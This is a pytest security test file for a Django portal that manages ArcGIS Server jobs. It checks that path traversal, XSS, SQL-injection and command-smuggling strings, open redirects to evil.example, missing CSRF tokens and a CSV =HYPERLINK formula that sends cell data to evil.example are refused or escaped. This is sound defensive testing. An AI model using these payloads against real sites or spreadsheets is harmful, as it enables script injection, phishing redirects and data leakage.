"""Bad input, from operators' browsers and from malicious ArcGIS servers.

What an operator's request can carry (paths, query strings, forms, forged sites, missing CSRF tokens, `next`
redirects) is refused before anything is sent upstream; what a server answers (names, descriptions, user and
machine names, messages, URLs, IDs, codes) is shown escaped, never as markup or a link, and never as a 500.
"""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils.html import escape

from jobs.models import AuditEvent
from tests.conftest import PortalClient, make_user
from tests.helpers import jobs_table, jobs_table_html, status_text, streamed_html

EXECUTING, SUCCEEDED = "esriJobExecuting", "esriJobSucceeded"
JOB = "j" + "0" * 32
BASE = "/sites/main/services/Hydrology/Watershed.GPServer"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"


def nothing_sent(simulator) -> bool:
    return len(simulator.requests) == 0


def assert_escaped(html: str, raw: str) -> None:
    assert raw not in html
    assert escape(raw) in html


def is_local(url: str) -> bool:
    """A redirect that stays on the portal: a path, not another host or scheme."""
    parts = urlsplit(url)
    return not parts.scheme and not parts.netloc and url.startswith("/") and url[1:2] not in ("/", "\\")


# --- paths: traversal, encodings, odd characters, lengths ------------------------------------------------------

BAD_SERVICE_PATHS = [
    "/sites/main/services/../../admin/jobs/",
    "/sites/main/services/Hydrology/../Watershed.GPServer/jobs/",
    "/sites/main/services/%2e%2e/Watershed.GPServer/jobs/",
    "/sites/main/services/Watershed%2F..%2F..%2Fadmin.GPServer/jobs/",
    "/sites/main/services/Hydrology%252FWatershed.GPServer/jobs/",
    "/sites/main/services/Hydrology%5CWatershed.GPServer/jobs/",
    "/sites/main/services/Hydrology\\Watershed.GPServer/jobs/",
    "/sites/main/services/Water;shed.GPServer/jobs/",
    "/sites/main/services/Water%00shed.GPServer/jobs/",
    "/sites/main/services/Water%20shed.GPServer/jobs/",
    "/sites/main/services/Water%0Ashed.GPServer/jobs/",
    "/sites/main/services/Water%3Fshed.GPServer/jobs/",
    "/sites/main/services/W%C3%A4tershed.GPServer/jobs/",
    f"/sites/main/services/{'W' * 121}.GPServer/jobs/",
    f"/sites/main/services/{'H' * 121}/Watershed.GPServer/jobs/",
    "/sites/main/services/A/B/Watershed.GPServer/jobs/",  # ArcGIS has one level of folders
    "/sites/main/services/Hydrology/Watershed.MapServer/jobs/",
]
BAD_JOB_IDS = [
    "j1%2F..%2Fx",
    "..%2F",
    "..",
    "%2e%2e",
    "j1%252F..%252Fx",
    "j1%5Cx",
    "j1\\x",
    "j1;x",
    "j1%00",
    "j%201",
    "j1%0A",
    "j1%3Fx=1",
    "j1%23f",
    "j%C3%B6b",
    "j_1",
    "j-1",
    "j" + "0" * 64,  # 65 characters
]


@pytest.mark.parametrize("path", BAD_SERVICE_PATHS)
def test_bad_service_and_folder_names_are_refused(simulator, olivia, path):
    simulator.requests.clear()
    for suffix in ("", "counts/", "j1/"):
        assert olivia.get(path + suffix).status_code in (400, 404), suffix
    for suffix in ("purge/", "bulk/", f"{JOB}/cancel/", f"{JOB}/delete/"):
        response = olivia.action(path + suffix, {"confirmed": "yes", "action": "cancel", "job_ids": [JOB]})
        assert response.status_code in (400, 404), suffix
    assert nothing_sent(simulator) and not AuditEvent.objects.exists()


@pytest.mark.parametrize("job_id", BAD_JOB_IDS)
def test_bad_job_ids_in_urls_are_refused(simulator, olivia, job_id):
    simulator.requests.clear()
    assert olivia.get(f"{BASE}/jobs/{job_id}/").status_code in (400, 404)
    assert olivia.htmx_get(f"{BASE}/jobs/{job_id}/").status_code in (400, 404)
    for action in ("cancel", "delete"):
        response = olivia.action(f"{BASE}/jobs/{job_id}/{action}/", {"confirmed": "yes"})
        assert response.status_code in (400, 404)
    assert nothing_sent(simulator) and not AuditEvent.objects.exists()


def test_the_same_urls_with_good_names_do_reach_arcgis(simulator, service, olivia):
    """The control for the tests above: a well-formed request is sent, so "nothing sent" means refused."""
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    simulator.requests.clear()
    assert olivia.htmx_get(f"{BASE}/jobs/", **{"HX-Target": "job-table"}).status_code == 200
    assert olivia.get(f"{BASE}/jobs/{job_id}/").status_code == 200
    assert olivia.action(f"{BASE}/jobs/{job_id}/cancel/").status_code == 200
    sent = [r.operation for r in simulator.requests]
    # The job page also reads the job's Services Directory page and its parameters.
    assert sent[:3] == ["query", "job", "restJob"] and sent[-1] == "cancel"
    assert set(sent[3:-1]) == {"restJobParam"}


def test_an_encoded_slash_is_a_slash_and_cannot_smuggle_a_path(simulator, service, olivia):
    """WSGI servers decode %2F before Django sees the path, so it can only name a folder and a service, each
    checked on its own; what reaches ArcGIS is the canonical, re-encoded address of that service."""
    simulator.requests.clear()
    response = olivia.htmx_get(
        "/sites/main/services/Hydrology%2FWatershed.GPServer/jobs/", **{"HX-Target": "job-table"}
    )
    assert response.status_code == 200
    assert {r.raw_path for r in simulator.requests} == {
        "/arcgis/admin/services/Hydrology/Watershed.GPServer/jobs/query"
    }


def test_slug_with_odd_characters_is_refused(simulator, olivia):
    simulator.requests.clear()
    for slug in ("ma%2Fin", "main%00", "..", "ma%20in", "m%C3%A4in", "main;x"):
        assert olivia.get(f"/sites/{slug}/").status_code in (400, 404)
        assert olivia.get(f"/sites/{slug}/services/Hydrology/Watershed.GPServer/jobs/").status_code in (400, 404)
    assert nothing_sent(simulator)


# --- query strings: the jobs page's filters ---------------------------------------------------------------------

BAD_FILTERS = [
    ({"user": "u" * 10_000}, "User"),
    ({"user": "a/b"}, "User"),
    ({"user": "x' OR '1'='1"}, "User"),
    ({"machine": "m" * 100_000}, "Machine"),
    ({"machine": "GIS01 EXAMPLE"}, "Machine"),
    ({"machine": "GIS01;rm"}, "Machine"),
    ({"status": "esriJobBogus"}, "Status"),
    ({"status": SCRIPT}, "Status"),
    ({"since": "yesterday"}, "From"),
    ({"until": "2026-13-45T99:99"}, "To"),
    ({"since": "2026-11-02T10:00", "until": "2026-11-02T09:00"}, "To"),
    ({"job": "../x"}, "Job ID"),
    ({"job": "jöb"}, "Job ID"),
    ({"job": "j" + "0" * 64}, "Job ID"),
    ({"page": "-1"}, "Page"),
    ({"page": "0"}, "Page"),
    ({"page": "abc"}, "Page"),
    ({"page": "9" * 30}, "Page"),
    ({"per_page": "100000"}, "Per page"),
    ({"per_page": "abc"}, "Per page"),
    ({"sort": "password"}, "Sort"),
]


def test_bad_filters_are_refused_in_place_and_nothing_is_asked_upstream(simulator, target, olivia):
    """Refused in words on the page (200, so htmx swaps the table to show why), with the value escaped."""
    simulator.requests.clear()
    for params, label in BAD_FILTERS:
        for get in (
            lambda url, data: olivia.get(url, {**data, "inline": "1"}),  # the page without JavaScript
            lambda url, data: olivia.htmx_get(url, data, **{"HX-Target": "job-table"}),
        ):
            response = get(target.url("job_list"), params)
            assert response.status_code == 200, params
            html = response.content.decode()
            assert "The filters need a correction" in html and f"{label}:" in html, params
            assert '<tr id="job-' not in html
            assert SCRIPT not in html
    assert nothing_sent(simulator)


def test_non_ascii_user_filter_is_sent_escaped(simulator, service, target, olivia):
    """ArcGIS user names may be non-ASCII (directory accounts): such a filter is passed on, URL-encoded."""
    simulator.state.add_job(service.key, username="jöb")
    simulator.requests.clear()
    html = jobs_table_html(olivia, target, {"user": "jöb"})
    [query] = simulator.requests
    assert query.query["userName"] == "jöb"  # percent-encoded UTF-8 on the wire, decoded intact
    assert "Jobs 1–1 of 1" in html


def test_bad_audit_filters_and_paging_answer_normally(simulator, olivia):
    """A bad filter is explained on the page, and refused (400, in words) by the export rather than
    answered with an empty file that would look like an empty trail; bad paging just shows a page."""
    for params in ({"user": "u" * 10_000}, {"since": "yesterday"}, {"outcome": SCRIPT}):
        page = olivia.get(reverse("jobs:audit"), params)
        assert page.status_code == 200 and SCRIPT not in page.content.decode()
        assert "The filters need a correction." in page.content.decode()
        export = olivia.get(reverse("jobs:audit_csv"), params)
        assert export.status_code == 400 and export["Content-Type"].startswith("text/plain")
        assert export.content.decode().startswith("The filters need a correction.")
    for params in ({"page": "-1"}, {"page": "abc"}):
        assert olivia.get(reverse("jobs:audit"), params).status_code == 200
        assert olivia.get(reverse("jobs:audit_csv"), params).status_code == 200
    assert nothing_sent(simulator)


# --- forged and hidden sites ------------------------------------------------------------------------------------


def site_urls(slug: str) -> tuple[list[str], list[str]]:
    service = f"/sites/{slug}/services/Hydrology/Watershed.GPServer/jobs/"
    pages = [f"/sites/{slug}/", f"/sites/{slug}/token/", service, f"{service}counts/", f"{service}{JOB}/"]
    actions = [f"{service}{JOB}/cancel/", f"{service}{JOB}/delete/", f"{service}purge/", f"{service}bulk/"]
    return pages, [*actions, f"/sites/{slug}/token/"]


def test_a_site_that_does_not_exist_is_404_everywhere(simulator, olivia):
    pages, actions = site_urls("nosuch")
    simulator.requests.clear()
    for url in pages:
        assert olivia.get(url).status_code == 404, url
    for url in actions:
        data = {"confirmed": "yes", "action": "cancel", "job_ids": [JOB], "intent": "disconnect"}
        assert olivia.action(url, data).status_code == 404, url
    assert nothing_sent(simulator) and not AuditEvent.objects.exists()


def test_a_site_restricted_to_another_group_is_404_and_invisible(simulator, site, operator, olivia):
    """Even with a token stored from before the restriction, nothing is sent and nothing is revealed."""
    site.groups.add(Group.objects.create(name="Another team"))
    AuditEvent.objects.create(
        username="sam", site=site, site_slug=site.slug, action="cancel", outcome="success", message="Hidden"
    )
    pages, actions = site_urls(site.slug)
    simulator.requests.clear()
    for url in pages:
        assert olivia.get(url).status_code == 404, url
    for url in actions:
        data = {"confirmed": "yes", "action": "cancel", "job_ids": [JOB], "intent": "disconnect"}
        assert olivia.action(url, data).status_code == 404, url
    overview = olivia.get(reverse("jobs:overview")).content.decode()
    assert "Main site" not in overview and "No ArcGIS Server site is visible to you yet." in overview
    assert "Hidden" not in olivia.get(reverse("jobs:audit")).content.decode()
    assert "Hidden" not in b"".join(olivia.get(reverse("jobs:audit_csv")).streaming_content).decode()
    assert nothing_sent(simulator)
    assert AuditEvent.objects.count() == 1  # the disconnect was refused too: the token is still stored
    assert operator.arcgis_tokens.filter(site=site).exists()


# --- bulk posts --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("job_ids", "error"),
    [
        (["../x"], "Job IDs are letters and digits."),
        ([JOB, "../x"], "Job IDs are letters and digits."),  # one bad ID refuses the whole request
        (["j1%2Fx"], "Job IDs are letters and digits."),
        (["j1\x00"], "Job IDs are letters and digits."),
        (["j 1"], "Job IDs are letters and digits."),
        (["jöb"], "Job IDs are letters and digits."),
        (["j" + "0" * 64], "Job IDs are letters and digits."),
        ([f"j{i}" for i in range(501)], "Select at most 500 jobs at once."),
        ([], "Select at least one job."),
    ],
    ids=["traversal", "mixed", "encoded-slash", "nul", "space", "non-ascii", "too-long", "501-ids", "none"],
)
def test_bad_bulk_posts_are_refused_with_a_clear_error_and_nothing_sent(simulator, target, olivia, job_ids, error):
    simulator.requests.clear()
    response = olivia.action(target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": job_ids})
    assert response.status_code == 200
    assert re.search(rf'role="alert">{re.escape(error)}</p>', response.content.decode())
    response = olivia.action(
        target.url("bulk"), {"action": "delete", "job_ids": job_ids, "confirmed": "yes"}, htmx=False
    )
    assert response.status_code == 302
    assert error in olivia.get(target.url("job_list"), {"status": "esriJobBogus"}).content.decode()
    assert nothing_sent(simulator) and not AuditEvent.objects.exists()


def test_a_bulk_post_with_an_unknown_action_is_refused_escaped(simulator, target, olivia):
    simulator.requests.clear()
    html = olivia.action(target.url("bulk"), {"action": SCRIPT, "job_ids": [JOB]}).content.decode()
    assert "Select a valid choice." in html
    assert_escaped(html, SCRIPT)
    html = olivia.action(target.url("bulk"), {"action": "purge", "job_ids": [JOB]}).content.decode()
    assert "Select a valid choice. purge is not one of the available choices." in html
    assert nothing_sent(simulator) and not AuditEvent.objects.exists()


def test_five_hundred_ids_are_accepted(simulator, service, target, olivia):
    """The limit is 500, not less: the refusal above is about the 501st."""
    job_ids = [simulator.state.add_job(service.key, status=EXECUTING) for _ in range(500)]
    simulator.requests.clear()
    html = olivia.action(
        target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": job_ids}
    ).content.decode()
    assert "500 cancellations requested" in html
    assert len([r for r in simulator.requests if r.operation == "cancel"]) == 500


# --- CSRF and methods ---------------------------------------------------------------------------------------------

POST_ROUTES = [
    (f"{BASE}/jobs/{JOB}/cancel/", {}),
    (f"{BASE}/jobs/{JOB}/delete/", {"confirmed": "yes"}),
    (f"{BASE}/jobs/purge/", {"confirmed": "yes"}),
    (f"{BASE}/jobs/bulk/", {"action": "cancel", "confirmed": "yes", "job_ids": JOB}),
    ("/sites/main/token/", {"intent": "connect", "username": "siteadmin", "password": "siteadmin", "expiration": 60}),
    ("/sites/main/token/", {"intent": "disconnect"}),
    ("/timezone/", {"timezone": "Europe/Berlin"}),
    ("/accounts/logout/", {}),
    ("/accounts/password_change/", {"old_password": "x", "new_password1": "y", "new_password2": "y"}),
]
POST_ROUTE_IDS = ["cancel", "delete", "purge", "bulk", "connect", "disconnect", "timezone", "logout", "password"]


@pytest.mark.parametrize(("url", "data"), POST_ROUTES, ids=POST_ROUTE_IDS)
def test_every_post_without_a_csrf_token_is_refused(simulator, service, olivia, operator, url, data):
    simulator.state.add_job(service.key, status=EXECUTING, job_id=JOB)
    simulator.requests.clear()
    for htmx in (True, False):
        assert olivia.action(url, data, csrf=False, htmx=htmx).status_code == 403
    # A wrong token is no better than none.
    assert olivia.post(url, data, headers={"X-CSRFToken": "x" * 32}).status_code == 403
    assert nothing_sent(simulator) and not AuditEvent.objects.exists()
    assert simulator.state.get_job(service.key, JOB)["status"] == EXECUTING
    assert operator.arcgis_tokens.exists()
    assert olivia.get(reverse("jobs:overview")).status_code == 200  # still signed in


def test_sign_in_without_a_csrf_token_is_refused(db):
    make_user("olivia", "Operator")
    client = PortalClient()
    response = client.action(reverse("login"), {"username": "olivia", "password": "olivia-password"}, csrf=False)
    assert response.status_code == 403 and "_auth_user_id" not in client.session


@pytest.mark.parametrize(
    "url",
    [
        f"{BASE}/jobs/{JOB}/cancel/",
        f"{BASE}/jobs/{JOB}/delete/",
        f"{BASE}/jobs/purge/",
        f"{BASE}/jobs/bulk/",
        "/accounts/logout/",
    ],
)
def test_get_on_a_post_only_route_is_405(simulator, olivia, url):
    simulator.requests.clear()
    assert olivia.get(url, {"confirmed": "yes", "action": "cancel", "job_ids": JOB}).status_code == 405
    assert olivia.htmx_get(url).status_code == 405
    for method in (olivia.put, olivia.delete, olivia.patch):  # with a CSRF token, so only the method is wrong
        assert method(url, headers={"X-CSRFToken": olivia.csrf_token}).status_code == 405
    assert nothing_sent(simulator) and not AuditEvent.objects.exists()


@pytest.mark.parametrize("url", ["/sites/main/token/", "/timezone/", f"{BASE}/jobs/", f"{BASE}/jobs/{JOB}/", "/audit/"])
def test_other_methods_on_pages_are_405(simulator, olivia, url):
    simulator.requests.clear()
    assert olivia.delete(url, headers={"X-CSRFToken": olivia.csrf_token}).status_code == 405
    assert olivia.put(url, headers={"X-CSRFToken": olivia.csrf_token}).status_code == 405
    assert nothing_sent(simulator)


# --- open redirects through `next` ---------------------------------------------------------------------------------

EVIL_NEXTS = [
    "https://evil.example/",
    "http://evil.example",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https:evil.example",
    "http:/evil.example",
    " //evil.example",
    "\t//evil.example",
    "//evil.example@testserver",
    "https://testserver@evil.example/",
    "/\t/evil.example",
    "/\n/evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]


def test_sign_in_never_redirects_off_site(db):
    make_user("olivia", "Operator")
    for evil in EVIL_NEXTS:
        client = PortalClient()
        assert client.get(reverse("login"), {"next": evil}).status_code == 200
        data = {"username": "olivia", "password": "olivia-password", "next": evil}
        response = client.action(reverse("login"), data, htmx=False)
        assert response.status_code == 302 and response.url == reverse("jobs:overview"), (evil, response.url)
        # Signed in already: the login page redirects at once, and still not off-site.
        again = client.get(reverse("login"), {"next": evil})
        assert again.status_code == 302 and is_local(again.url), (evil, again.url)


def test_actions_never_redirect_off_site(simulator, service, target, olivia):
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    token_url = reverse("jobs:token", args=["main"])
    posts = [
        (target.url("cancel", job_id), {}, target.url("job_list")),
        (target.url("delete", job_id), {"confirmed": "yes"}, target.url("job_list")),
        (target.url("purge"), {"confirmed": "yes"}, target.url("job_list")),
        (target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": JOB}, target.url("job_list")),
        (target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": "../x"}, target.url("job_list")),
        (reverse("jobs:timezone"), {"timezone": "Europe/Berlin"}, reverse("jobs:overview")),
        (reverse("jobs:timezone"), {"timezone": "Nowhere/Else"}, reverse("jobs:overview")),
        (token_url, {"intent": "disconnect"}, token_url),
    ]
    for url, data, default in posts:
        for evil in EVIL_NEXTS:
            response = olivia.action(url, {**data, "next": evil}, htmx=False)
            assert response.status_code == 302, (url, evil)
            assert response.url == default and is_local(response.url), (url, evil, response.url)


def test_token_form_never_redirects_off_site_after_connecting(simulator, site, operator, client_as):
    client = client_as(operator)
    url = reverse("jobs:token", args=[site.slug])
    for evil in EVIL_NEXTS:
        page = client.get(url, {"next": evil}).content.decode()
        assert f'name="next" value="{escape(evil)}"' in page  # kept for the form, escaped
        data = {"intent": "connect", "username": "siteadmin", "password": "siteadmin", "expiration": 60, "next": evil}
        response = client.action(url, data, htmx=False)
        assert response.status_code == 302 and response.url == url, (evil, response.url)
        token = simulator.issue_token("siteadmin", referer=site.effective_referer)
        response = client.action(url, {"intent": "paste", "token": token, "next": evil}, htmx=False)
        assert response.status_code == 302 and response.url == url, (evil, response.url)


def test_local_next_is_followed(simulator, service, target, olivia):
    """The control: a path on the portal is where the operator goes back to."""
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    back = target.url("job_list") + "?status=esriJobExecuting&page=1"
    response = olivia.action(target.url("cancel", job_id), {"next": back}, htmx=False)
    assert response.url == back


def test_logout_never_redirects_off_site(olivia):
    for evil in EVIL_NEXTS[:5]:
        response = olivia.action(reverse("logout"), {"next": evil}, htmx=False)
        assert response.status_code == 302 and is_local(response.url), response.url


# --- what a malicious ArcGIS server answers ---------------------------------------------------------------------


def test_service_descriptions_and_names_from_the_server_are_escaped(simulator, site, olivia):
    simulator.state.add_service("Watershed", folder="Hydrology", description=SCRIPT)
    simulator.state.add_service(IMG, folder="Hydrology")  # not addressable: left out, never rendered
    simulator.state.add_service("Buffer", folder=f"Evil{SCRIPT}")
    for url in (reverse("jobs:overview_stream"), reverse("jobs:site_stream", args=["main"])):
        html = streamed_html(olivia, url)
        assert_escaped(html, SCRIPT)
        assert IMG not in html and escape(IMG) not in html
        assert ">Watershed</a>" in html and ">Buffer</a>" not in html


def test_odd_folder_names_inside_a_listing_never_break_the_overview(simulator, site, olivia):
    """A server whose listing claims a folder the portal cannot address: the service is left out, no 500."""
    simulator.state.add_service("Watershed", folder="Hydrology")
    listing = {
        "folderName": "/",
        "description": SCRIPT,
        "folders": [],
        "services": [
            {"folderName": f"x{SCRIPT}", "serviceName": "Evil", "type": "GPServer", "description": SCRIPT},
            {"folderName": "/", "serviceName": "Good", "type": "GPServer", "description": IMG},
        ],
    }
    simulator.faults.set("answer", operation="services", body=listing)
    html = streamed_html(olivia, reverse("jobs:overview_stream"))
    assert ">Good</a>" in html and ">Evil</a>" not in html
    assert_escaped(html, IMG)
    assert SCRIPT not in html


@pytest.fixture
def evil_job(simulator, service):
    return simulator.state.add_job(service.key, status=EXECUTING, username=IMG, machinename=SCRIPT)


def test_user_and_machine_names_from_the_server_are_escaped(simulator, service, target, olivia, evil_job):
    pages = [
        jobs_table(olivia, target),
        olivia.htmx_get(target.url("job_facts", evil_job)),
        olivia.get(target.url("job", evil_job)),
        olivia.action(target.url("cancel", evil_job)),  # the proxy's answer
    ]
    for response in pages:
        html = response.content.decode()
        assert response.status_code == 200
        assert_escaped(html, IMG)
        assert_escaped(html, SCRIPT)


def test_a_dotted_host_name_is_escaped_in_its_title_too(simulator, service, target, olivia):
    """A host named with dots shows its first part and the whole name on hover: both escaped."""
    machine = f'gis"{IMG}.example.com'
    simulator.state.add_job(service.key, status=EXECUTING, machinename=machine)
    html = jobs_table(olivia, target).content.decode()
    assert f'<span title="{escape(machine)}">{escape(machine.split(".")[0])}</span>' in html
    assert_escaped(html, IMG)


REFUSAL = f"Unable to cancel job {SCRIPT}{IMG}"


def test_a_refusal_message_from_the_server_is_escaped_everywhere(simulator, service, target, olivia, evil_job):
    body = {"status": "error", "messages": [REFUSAL], "code": 500}
    simulator.faults.set("answer", operation="cancel", body=body)
    row = olivia.action(target.url("cancel", evil_job)).content.decode()
    assert status_text(row) == f"{REFUSAL} — it is Executing."
    assert escape(REFUSAL) in row
    assert_escaped(row, REFUSAL)
    bulk = olivia.action(
        target.url("bulk"), {"action": "cancel", "confirmed": "yes", "job_ids": [evil_job]}
    ).content.decode()
    assert_escaped(bulk, REFUSAL)
    olivia.action(target.url("cancel", evil_job), {"next": target.url("job_list")}, htmx=False)
    page = olivia.get(
        target.url("job_list"), {"inline": "1"}
    ).content.decode()  # the flash message, and the row's outcome
    assert page.count(escape(REFUSAL)) >= 2 and REFUSAL not in page
    audit = olivia.get(reverse("jobs:audit")).content.decode()
    assert_escaped(audit, REFUSAL)
    event = AuditEvent.objects.filter(action="cancel").first()
    assert (event.outcome, event.message, event.upstream_code) == ("refused", REFUSAL, 500)


def test_a_refusal_of_a_purge_is_escaped_in_the_proxys_answer(simulator, target, olivia):
    simulator.faults.set("answer", operation="purgeQueue", body={"error": {"code": 500, "message": SCRIPT}})
    html = olivia.action(target.url("purge"), {"confirmed": "yes"}).content.decode()
    assert_escaped(html, SCRIPT)
    assert AuditEvent.objects.get(action="purge").message == SCRIPT


def test_the_csv_export_is_a_download_and_defuses_formulas(simulator, service, target, olivia, evil_job):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    for message in (REFUSAL, formula, "@SUM(1+1)", "+1+1", "-1+1"):
        simulator.faults.set("answer", operation="cancel", body={"status": "error", "messages": [message], "code": 500})
        olivia.action(target.url("cancel", evil_job))
    response = olivia.get(reverse("jobs:audit_csv"))
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    messages = {row["message"] for row in rows}
    assert REFUSAL in messages  # plain text in a CSV file: nothing there runs markup
    assert {"'" + formula, "'@SUM(1+1)", "'+1+1", "'-1+1"} <= messages
    assert not any(m[:1] in "=+-@" for m in messages)


def test_read_errors_from_the_server_are_escaped(simulator, service, target, olivia):
    simulator.faults.set("answer", body={"error": {"code": 400, "message": SCRIPT, "details": [IMG]}})
    for response in (
        jobs_table(olivia, target),
        olivia.htmx_get(target.url("service_counts")),
        olivia.get(reverse("jobs:overview"), {"inline": "1"}),
        olivia.get(target.url("job", JOB)),
    ):
        html = response.content.decode()
        assert response.status_code == 200
        assert_escaped(html, SCRIPT)
        assert_escaped(html, IMG)


def job_json(job_id: str, **fields) -> dict:
    return {
        "jobId": job_id,
        "submittedTime": 1_790_000_000_000,
        "endTime": None,
        "status": EXECUTING,
        "username": "analyst1",
        "machinename": "GIS01",
        "url": "javascript:alert(1)",
        **fields,
    }


def query_answer(*jobs: dict) -> dict:
    return {"total": len(jobs), "num": len(jobs), "start": 1, "nextStart": -1, "results": {j["jobId"]: j for j in jobs}}


def test_a_javascript_url_from_the_server_is_never_a_link(simulator, service, target, olivia):
    job_id = "j" + "1" * 32
    simulator.faults.set("answer", operation="query", body=query_answer(job_json(job_id)))
    simulator.faults.set("answer", operation="job", body=job_json(job_id, url="JaVaScRiPt:alert(1)//"))
    for response in (
        jobs_table(olivia, target),
        olivia.get(target.url("job", job_id)),
    ):
        html = response.content.decode()
        assert response.status_code == 200 and f'id="job-{job_id}"' in html
        assert not re.search(r"""(href|src|action|hx-get|hx-post)\s*=\s*["']?\s*javascript:""", html, re.I)
    # Not a Services Directory page on the site's origin: not followed, and said so in words.
    assert "javascript:alert" not in html.lower()


def test_odd_job_ids_statuses_and_times_from_the_server_never_break_the_page(simulator, service, target, olivia):
    good = "j" + "2" * 32
    jobs = [
        job_json(good, status=f"esriJob{SCRIPT}", username=SCRIPT),
        job_json('j1"><script>alert(5)</script>'),
        job_json("../../x"),
        job_json("j3", submittedTime=10**30, endTime="soon"),
    ]
    simulator.faults.set("answer", operation="query", body=query_answer(*jobs))
    html = jobs_table_html(olivia, target)
    assert "<script>alert" not in html
    assert f'id="job-{good}"' in html
    assert_escaped(html, f"esriJob{SCRIPT}")


@pytest.mark.parametrize("code", [-1, 10**12, "abc", None])
def test_odd_error_codes_never_leave_the_audit_pending(simulator, service, target, olivia, code):
    job_id = simulator.state.add_job(service.key, status=EXECUTING)
    simulator.faults.set("answer", operation="cancel", body={"status": "error", "messages": ["No."], "code": code})
    response = olivia.action(target.url("cancel", job_id))
    assert response.status_code == 200
    assert status_text(response.content.decode()) == "No. — it is Executing."  # the words, and the job re-read
    event = AuditEvent.objects.get(action="cancel")
    assert event.outcome == "refused" and event.message == "No." and event.finished is not None
